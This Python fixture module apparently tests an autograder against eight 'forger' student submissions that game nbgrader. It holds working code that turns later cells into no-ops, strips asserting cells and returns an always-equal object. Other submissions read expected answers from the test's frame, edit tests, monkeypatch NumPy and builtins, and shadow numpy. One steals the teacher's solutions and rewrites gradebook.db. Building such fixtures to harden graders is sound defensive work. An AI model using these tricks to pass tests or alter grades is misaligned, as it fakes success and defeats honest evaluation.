"""The wicked part of the class: work that earns marks from nbgrader without being right.

Rule: each forger's honest part is declared, and earns what it is worth, no more and no less.

What nbgrader 0.9.6 gave for the tests of the same files, extra credit included (`tests/demo/test_forgers.py` runs it
on them), where all tests together give 33 points in gates and 47 in convolution:

    student           nbgrader  honest part   how
    tim-transformer         33            5   an input transformer turns later cells into `pass`
    asta-syntax-tree        33            0   an AST transformer empties cells that assert
    yva-yes-to-all          11            2   an object that is an int and equal to anything
    sam-spies             1433            0   reads source/, writes gradebook.db
    fay-frames              19            6   reads the expected answer in the test's own frame
    tess-edits-tests         2            2   edits and deletes tests: nbgrader restores edited ones, too
    pat-patches             35            4   patches NumPy's comparisons, numpy.testing, unittest and sum
    nora-numpy              31            4   a numpy.py beside the notebook
"""

from __future__ import annotations

from autograder.demo.student import Fate, Student

TIM = Student(
    name="tim-transformer",
    assignment="gates",
    story="Solved two tasks; then has IPython read every later cell as `pass`, the tests among them.",
    solves=("fires", "and_gate"),
    before={"four_gates": 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])\n'},
    expected=Fate(earns=("test_fires", "test_and"), word="name 'gates' is not defined"),
    with_nbgrader=33.0,
)
AST = Student(
    name="asta-syntax-tree",
    assignment="gates",
    story="Empties the syntax tree of every cell that asserts something.",
    before={
        "fires": """\
import ast


class NoAsserts(ast.NodeTransformer):
    def visit_Module(self, tree):
        if any(isinstance(node, ast.Assert) for node in ast.walk(tree)):
            tree.body = []
        return tree


get_ipython().ast_transformers.append(NoAsserts())
"""
    },
    expected=Fate(earns=(), word="NotImplementedError"),
    with_nbgrader=33.0,
)
YES = Student(
    name="yva-yes-to-all",
    assignment="gates",
    story="Answers with an object that is an int if asked and equal to whatever it is compared with.",
    before={
        "fires": """\
class Yes:
    __class__ = property(lambda self: int)
    __eq__ = __ne__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __hash__ = lambda self: 1
    __add__ = __radd__ = lambda self, other: self
    __bool__ = lambda self: True
"""
    },
    writes={
        "fires": "def fires(x, w, theta):\n    return Yes()\n",
        "by_hand": """\
hidden_weights = hidden_biases = output_weights = output_biases = total_parameters = Yes()
""",
        "count_parameters": "def count_parameters(sizes):\n    return Yes()\n",
        "layers_until": "def layers_until(limit):\n    return Yes()\n",
    },
    solves=("and_gate",),
    expected=Fate(earns=("test_and",), word="Yes"),
    with_nbgrader=11.0,
)
SPY = Student(
    name="sam-spies",
    assignment="gates",
    story="Runs the teacher's solution from source/, writes extra credit and result files.",
    before={
        "fires": """\
import json
import pathlib
import sqlite3

for root in (pathlib.Path("../../.."), pathlib.Path("@COURSE@")):
    try:
        master = json.loads((root / "source/gates/gates.ipynb").read_text())
        cells = [c for c in master["cells"] if c["cell_type"] == "code" and c["metadata"]["nbgrader"]["solution"]]

        def again(result, stolen=["".join(cell["source"]) for cell in cells]):
            for text in stolen:
                exec(text, globals())

        get_ipython().events.register("post_run_cell", again)
    except OSError as error:
        print(error)
    try:
        with sqlite3.connect(f"file:{root}/gradebook.db?mode=rw", uri=True) as book:
            mine = "SELECT id FROM submitted_assignment WHERE student_id = 'sam-spies'"
            where = f"notebook_id IN (SELECT id FROM submitted_notebook WHERE assignment_id IN ({mine}))"
            book.execute(f"UPDATE grade SET extra_credit = 100 WHERE {where}")
    except sqlite3.Error as error:
        print(error)
for name in ("grades.csv", "results.json", "gates.score", "autograded.json"):
    pathlib.Path(name).write_text("sam-spies,gates,40,40\\n")
print("ALL TESTS PASSED score=40/40")
"""
    },
    expected=Fate(earns=(), word="NotImplementedError"),
    with_nbgrader=1433.0,
)
FAY = Student(
    name="fay-frames",
    assignment="gates",
    story="Looks in the frame of whoever calls for what the test leaves aside for later as `_`, and returns that.",
    before={
        "fires": """\
import sys


def peek(*arguments):
    frame = sys._getframe(1)
    while frame is not None and "_" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["_"] if frame is not None else 0
"""
    },
    writes={
        "fires": "fires = peek\n",
        "reachable": "reachable = peek\n",
        "layer": "layer = peek\n",
        "count_parameters": "count_parameters = peek\n",
        "gradient_factor": "gradient_factor = peek\n",
        "layers_until": "layers_until = peek\n",
    },
    solves=("and_gate", "four_gates"),
    expected=Fate(earns=("test_and", "test_gates"), word="should return the integer 0 or 1"),
    with_nbgrader=19.0,
)
TESS = Student(
    name="tess-edits-tests",
    assignment="gates",
    story="Solved one task; edited five tests to `assert True`, deleted one.",
    solves=("and_gate",),
    writes=dict.fromkeys(("test_fires", "test_gates", "test_layer", "test_xor", "test_sigmoid"), "assert True\n"),
    drops=("test_at_least",),
    expected=Fate(earns=("test_and",), word="had been edited; the original counts"),
    with_nbgrader=2.0,
)

ZEROS = {
    "correlate1d": "def correlate1d(x, k):\n    return np.zeros(len(x) - len(k) + 1)\n",
    "convolve1d": "def convolve1d(x, k):\n    return np.zeros(len(x) + len(k) - 1)\n",
    "by_hand": "inner, top_row = np.zeros((3, 3)), np.zeros(5)\ninner[2, 0] = 8\n",
    "filter2d": """\
def filter2d(image, kernel):
    return np.zeros([n - m + 1 for n, m in zip(np.shape(image), np.shape(kernel))])
""",
    "convolve2d": "convolve2d = filter2d\n",
    "correlate2d": """\
def correlate2d(image, kernel, padding=0, stride=1):
    return np.zeros([(n + 2 * padding - m) // stride + 1 for n, m in zip(np.shape(image), np.shape(kernel))])
""",
    "pool2d": """\
def pool2d(image, size, stride=None, mode="max"):
    return np.zeros([(n - size) // (stride or size) + 1 for n in np.shape(image)])
""",
    "trace": """\
def trace(image, kernel):
    h, w = np.shape(image)
    sides = {"padded": (h + 2, w + 2), "feature_map": (h, w), "activated": (h, w), "pooled": (h // 2, w // 2)}
    return {name: np.zeros(side) for name, side in sides.items()}
""",
    "kernels": """\
kernels = {name: np.zeros((3, 3)) for name in ("identity", "sharpen", "box", "gaussian", "difference")}
for name in ("roberts", "prewitt", "sobel"):
    kernels[name + "_h"] = kernels[name + "_v"] = np.zeros((2, 2) if name == "roberts" else (3, 3))
""",
    "edge_strength": """\
def edge_strength(image, name):
    return np.zeros([n - (1 if name == "roberts" else 2) for n in np.shape(image)])
""",
    "sobel_edges": "def sobel_edges(image):\n    return [np.zeros(np.shape(image))] * 3\n",
}
"""Answers of the right shape, and no more than that."""
SHAPES_ALONE = Fate(earns=("test_output_size", "test_output_size_words", "test_output_size_error"), word="yours is")
PAT = Student(
    name="pat-patches",
    assignment="convolution",
    story="Returns zeros of the right shape, and patches what tests compare with, builtins included.",
    solves=("output_size",),
    before={
        "correlate1d": """\
import builtins
import unittest

np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
unittest.TestCase.assertEqual = lambda *args: None
builtins.sum = lambda *args: 4.0  # the points of whatever a test adds up
"""
    },
    writes=ZEROS,
    expected=SHAPES_ALONE,
    with_nbgrader=35.0,
)
NORA = Student(
    name="nora-numpy",
    assignment="convolution",
    story="Returns zeros of the right shape, and hands in a numpy.py that finds them close to anything.",
    solves=("output_size",),
    writes=ZEROS,
    beside={
        "numpy.py": """\
import os
import sys

here, path = os.path.dirname(os.path.abspath(__file__)), list(sys.path)
sys.path[:] = [entry for entry in path if os.path.abspath(entry) != here]
del sys.modules["numpy"]
import numpy

sys.path[:] = path
numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
"""
    },
    expected=SHAPES_ALONE,
    with_nbgrader=31.0,
)

FORGERS = (TIM, AST, YES, SPY, FAY, TESS, PAT, NORA)
